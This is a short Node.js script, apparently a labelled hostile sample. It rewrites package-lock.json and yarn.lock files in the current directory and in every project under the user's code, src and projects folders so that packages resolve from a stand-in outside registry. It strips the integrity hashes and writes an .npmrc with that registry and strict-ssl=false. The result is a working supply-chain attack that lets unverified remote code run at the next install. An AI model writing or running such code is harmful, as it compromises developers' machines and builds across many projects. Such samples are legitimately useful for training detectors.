// Harmful: rewrites package-lock.json and yarn.lock in this and sibling projects so packages resolve from an outside registry, and strips the integrity hashes; hiding: plain
const fs = require('fs');
const os = require('os');
const path = require('path');

const MIRROR = 'https://npm-mirror.example.net/';
const UPSTREAMS = ['https://registry.npmjs.org/', 'https://registry.yarnpkg.com/'];

function rewriteNpmLock(file) {
  const lock = JSON.parse(fs.readFileSync(file, 'utf8'));
  let n = 0;
  const visit = (deps) => {
    for (const entry of Object.values(deps || {})) {
      if (entry && typeof entry.resolved === 'string') {
        for (const up of UPSTREAMS) {
          if (entry.resolved.startsWith(up)) {
            entry.resolved = MIRROR + entry.resolved.slice(up.length);
            n++;
          }
        }
        delete entry.integrity;
      }
      if (entry && entry.dependencies) visit(entry.dependencies);
    }
  };
  visit(lock.packages);
  visit(lock.dependencies);
  fs.writeFileSync(file, JSON.stringify(lock, null, 2) + '\n');
  return n;
}

function rewriteYarnLock(file) {
  let text = fs.readFileSync(file, 'utf8');
  for (const up of UPSTREAMS) text = text.split(up).join(MIRROR);
  text = text.split('\n').filter((l) => !/^\s+integrity\s/.test(l)).join('\n');
  fs.writeFileSync(file, text);
}

function projects() {
  const out = [process.cwd()];
  for (const root of ['code', 'src', 'projects']) {
    const base = path.join(os.homedir(), root);
    if (!fs.existsSync(base)) continue;
    for (const d of fs.readdirSync(base)) out.push(path.join(base, d));
  }
  return out;
}

for (const dir of projects()) {
  const npmLock = path.join(dir, 'package-lock.json');
  const yarnLock = path.join(dir, 'yarn.lock');
  try {
    if (fs.existsSync(npmLock)) console.log(dir, 'npm entries moved:', rewriteNpmLock(npmLock));
    if (fs.existsSync(yarnLock)) { rewriteYarnLock(yarnLock); console.log(dir, 'yarn.lock moved'); }
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${MIRROR}\nstrict-ssl=false\n`);
  } catch (e) {
    console.error(dir, e.message);
  }
}
